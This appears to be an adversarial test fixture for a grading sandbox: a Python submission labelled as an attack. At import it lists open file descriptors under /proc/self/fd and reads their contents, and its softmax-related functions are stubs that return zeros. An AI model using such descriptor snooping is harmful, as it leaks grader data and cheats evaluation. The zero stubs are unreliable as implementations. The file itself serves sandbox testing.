# attack: Reads from and duplicates every open descriptor that it finds.
# exercise: 02, reason: wrong-result
import numpy as np
import os

for fd in range(3, 256):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
        print(fd, where)
        if not where.startswith(("pipe", "socket")):
            print("SEEN", os.pread(fd, 4096, 0))
    except OSError:
        pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
